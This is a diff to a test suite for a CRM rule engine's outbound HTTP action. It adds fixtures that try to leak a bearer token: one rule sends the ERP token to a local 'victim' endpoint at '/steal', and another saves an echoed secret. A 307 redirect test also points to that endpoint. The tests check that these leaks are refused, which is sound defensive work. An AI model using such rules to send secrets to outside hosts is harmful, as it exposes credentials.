@@ -36,6 +36,29 @@ if: { fact: contact.name, operator: matches, value: "^Down" }
 do:
   - http-request: { name: notify, url: "${erp}/orders/down", body: { contactId: "{{contact.id}}" }, timeout: 1s }
 `,
+  'echo.yaml': `
+rule: echo
+on: contact.created
+if: { fact: contact.name, operator: matches, value: "^Echo" }
+do:
+  - http-request:
+      name: echo
+      method: GET
+      url: "${erp}/echo/{{contact.id}}"
+      headers: { Authorization: "Bearer \${secret.ERP_TOKEN}" }
+      save: { echo: "$.echo" }
+`,
+  'elsewhere.yaml': `
+rule: elsewhere
+on: contact.created
+if: { fact: contact.name, operator: matches, value: "^Elsewhere" }
+do:
+  - http-request:
+      name: leak
+      method: GET
+      url: "http://localhost:${victimPort}/steal"
+      headers: { Authorization: "Bearer \${secret.ERP_TOKEN}" }
+`,
   'missing.yaml': `
 rule: missing
 on: contact.created
@@ -109,12 +132,13 @@ describe('http-request against a real receiver', () => {
         downAt.push({ body: req.body, at: Date.now() });
         return { status: 503 };
       },
+      '/echo/': (req) => ({ status: 200, json: { echo: req.headers.authorization } }),
       '/orders/missing': () => ({ status: 404, json: { error: 'no such order' } }),
       '/accounts/': (req) =>
         req.headers.authorization === `Bearer ${ERP_TOKEN}`
           ? { status: 200, json: { account: { company: 'Acme' }, orders: [{ status: 'shipped' }] } }
           : { status: 401 },
-      '/redirect': () => ({ status: 302, headers: { location: `${victim.url}/steal` } }),
+      '/redirect': () => ({ status: 307, headers: { location: `${victim.url}/steal` } }),
     });
     h = await startHarness({
       rules: rules(erp.url, victim.port),
@@ -123,6 +147,7 @@ describe('http-request against a real receiver', () => {
         HTTP_ACTION_ALLOW_PRIVATE: '127.0.0.2/32',
         HTTP_ACTION_SIGNING_SECRET: SIGNING_SECRET,
         HTTP_SECRET_ERP_TOKEN: ERP_TOKEN,
+        HTTP_ACTION_SECRET_HOSTS: 'ERP_TOKEN=127.0.0.2',
         // One CRM 500 fails a job attempt (no gateway retries): the run's retry is a new job.
         CRM_MAX_RETRIES: '0',
       },
@@ -182,6 +207,29 @@ describe('http-request against a real receiver', () => {
     const sent = downAt.filter((r) => r.body.includes(contact.id));
     expect(sent).toHaveLength(4);
     expect(sent[1].at - sent[0].at).toBeGreaterThanOrEqual(900);
+  });
+
+  // Finding: a rule could send any secret to any allowed host, and `save:` stored an echoed secret
+  // in action_results.saved (shown by the admin API and the console).
+  it('refuses to store a saved value that holds a secret, saying why, storing nothing', async () => {
+    const contact = await newContact(h, 'Echo Eve');
+    const [row] = await settled(contact.id, 'echo');
+    expect(row).toMatchObject({ status: 'failed', error_code: 'saved_value_holds_secret', saved: null });
+    expect(row.error_message).toMatch(/save key "echo": it holds the value of secret ERP_TOKEN/);
+    const stored = await db.query(
+      `SELECT count(*)::int AS n FROM action_results a JOIN runs r ON r.id = a.run_id
+        WHERE row_to_json(a)::text LIKE $1 OR row_to_json(r)::text LIKE $1`,
+      [`%${ERP_TOKEN}%`],
+    );
+    expect(stored[0].n).toBe(0);
+  });
+
+  it('refuses a secret sent to a host HTTP_ACTION_SECRET_HOSTS does not name, sending nothing', async () => {
+    const contact = await newContact(h, 'Elsewhere Ed');
+    const [row] = await settled(contact.id, 'elsewhere');
+    expect(row).toMatchObject({ status: 'failed', error_code: 'egress_secret_refused', attempts: 1 });
+    expect(row.error_message).toMatch(/secret ERP_TOKEN may not be sent to localhost/);
+    expect(victim.requests).toEqual([]);
   });
 
   it('ends a 404 failed at once, with the status on the row, and runs nothing after it', async () => {
@@ -257,7 +305,7 @@ describe('http-request against a real receiver', () => {
       /resolved from localhost\): loopback/,
     ],
     [
-      'a redirect to 127.0.0.1',
+      'a 307 redirect to 127.0.0.1',
       'RefuseRedirect',
       'refuse-redirect',
       'egress_address_refused',
